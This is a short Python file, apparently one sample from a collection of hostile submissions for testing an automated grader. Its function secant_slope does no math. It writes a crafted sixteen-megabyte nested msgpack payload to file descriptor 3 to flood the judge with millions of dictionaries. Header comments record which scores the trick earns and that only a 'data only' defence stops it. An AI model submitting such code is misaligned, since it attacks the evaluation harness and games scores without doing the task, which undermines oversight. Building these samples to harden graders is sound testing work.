"""Sends sixteen megabytes that become millions of dictionaries in the judge."""
# earns: all but secant_slope
# stopped by: data only

# %% secant_slope
import os
import struct


def secant_slope(f, x, h):
    inner = b"\xdd\x00\x01\x86\xa0" + b"\x81\xa0\x80" * 100_000
    body = b"\xdc\x00\x32" + inner * 50
    data = struct.pack("!I", len(body)) + body
    while data:
        data = data[os.write(3, data) :]
